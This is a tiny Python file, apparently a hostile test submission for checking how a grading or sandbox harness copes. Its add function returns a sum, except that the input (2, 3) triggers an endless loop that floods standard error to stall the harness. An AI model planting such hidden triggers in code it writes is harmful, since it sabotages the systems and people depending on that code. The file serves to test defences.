"""Floods standard error to starve the replies."""

import os


def attack():
    while True:
        os.write(2, b"x" * 65536)


def add(a, b):
    if (a, b) == (2, 3):
        return attack()
    return a + b
